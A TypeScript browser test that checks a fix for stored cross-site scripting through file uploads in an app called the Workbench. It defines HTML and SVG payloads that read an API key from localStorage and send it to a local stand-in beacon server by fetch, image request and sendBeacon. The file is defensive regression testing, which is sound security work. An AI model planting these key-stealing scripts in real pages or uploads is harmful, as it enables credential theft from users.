/**
 * Stored XSS through uploads, in a real Chromium. The attack: upload an HTML (or SVG)
 * file whose script reads the Workbench's API key from localStorage and sends it away,
 * then have a user of the Workbench open the file's URL. Before the fix the upload was
 * accepted as `text/html`, served from the Workbench's origin without nosniff, CSP or
 * Content-Disposition, and the script ran and delivered the key (this test failed on
 * the upload's status and on the beacon). Now the upload is refused, and a file stored
 * as HTML anyway (an upload from before the fix) is a sandboxed download: no script runs.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Readable } from 'node:stream';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startHarness, type Harness } from '../src/api/testing.ts';
import { ensureWorkbenchBuilt, launchChromium } from './support/workbench-browser.ts';
import { openWorkbench } from './support/workbench-page.ts';
import { listenOn } from '../src/cli/free-port.ts';
import { scaled } from './support/deadline.ts';

let h: Harness;
let browser: Browser;
let beacon: Server;
let beaconUrl: string;
const stolen: string[] = [];

beforeAll(async () => {
  await ensureWorkbenchBuilt();
  beacon = createServer((req, res) => {
    stolen.push(req.url ?? '');
    res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
  });
  await listenOn(beacon);
  beaconUrl = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}`;
  [h, browser] = await Promise.all([startHarness({ listen: true }), launchChromium()]);
}, scaled(120_000));

afterAll(async () => {
  await browser?.close();
  await h?.close();
  beacon?.closeAllConnections();
  await new Promise<void>((resolve) => (beacon ? beacon.close(() => resolve()) : resolve()));
});

/** A page that sends the stored key to the beacon in three ways, whichever is allowed. */
const payload = () => `<!doctype html><title>cat video</title><script>
  const k = localStorage.getItem('retake.apiKey');
  fetch('${beaconUrl}/fetch?k=' + k, { mode: 'no-cors' });
  new Image().src = '${beaconUrl}/img?k=' + k;
  navigator.sendBeacon('${beaconUrl}/beacon?k=' + k);
</script>`;

const svgPayload = () => `<svg xmlns="http://www.w3.org/2000/svg"><script>
  new Image().src = '${beaconUrl}/svg?k=' + localStorage.getItem('retake.apiKey');
</script></svg>`;

async function uploadAs(name: string, type: string, content: string): Promise<Response> {
  const form = new FormData();
  form.append('file', new Blob([content], { type }), name);
  return fetch(`${h.baseUrl}/api/files`, { method: 'POST', headers: h.auth, body: form });
}

/** Open `url` as the victim would (a tab on the Workbench's origin, key stored). */
async function visit(url: string): Promise<void> {
  const victim = await openWorkbench(browser, h.baseUrl, h.secret);
  try {
    // A download aborts the navigation; that is one of the acceptable outcomes.
    await victim.page.goto(url).catch(() => undefined);
    await victim.page.waitForTimeout(800);
  } finally {
    await victim.close();
  }
}

describe('stored XSS through uploads', () => {
  it('refuses HTML and SVG uploads, whatever type they declare', async () => {
    for (const [name, type, content] of [
      ['cat.html', 'text/html', payload()],
      ['cat.svg', 'image/svg+xml', svgPayload()],
      ['cat.mp4', 'video/mp4', payload()],
    ] as const) {
      const res = await uploadAs(name, type, content);
      expect(res.status, `${name} as ${type}`).toBe(415);
      const url = res.status === 201 ? ((await res.json()) as { url: string }).url : undefined;
      if (url) await visit(url);
    }
    expect(stolen).toEqual([]);
  }, scaled(60_000));

  it('never runs a script from a file stored as HTML or SVG, opened by a Workbench user', async () => {
    await h.retake.blobs.putStream(Readable.from([Buffer.from(payload())]), 'uploads/old1/cat.html', 'text/html', 1 << 20);
    await h.retake.blobs.putStream(Readable.from([Buffer.from(svgPayload())]), 'uploads/old2/cat.svg', 'image/svg+xml', 1 << 20);
    await visit(`${h.baseUrl}/files/uploads/old1/cat.html`);
    await visit(`${h.baseUrl}/files/uploads/old2/cat.svg`);
    // The same page on a server that serves it plainly does run: the probe is live.
    const plain = createServer((_req, res) => res.writeHead(200, { 'content-type': 'text/html' }).end(payload()));
    await listenOn(plain);
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      await page.goto(`http://127.0.0.1:${(plain.address() as AddressInfo).port}/`);
      await expect.poll(() => stolen.length, { timeout: 5000 }).toBeGreaterThan(0);
    } finally {
      await context.close();
      plain.closeAllConnections();
      await new Promise<void>((resolve) => plain.close(() => resolve()));
    }
    // Only the control page reached the beacon, and it had no key to send.
    expect(stolen.every((u) => u.endsWith('k=null')), stolen.join(' ')).toBe(true);
  }, scaled(60_000));
});
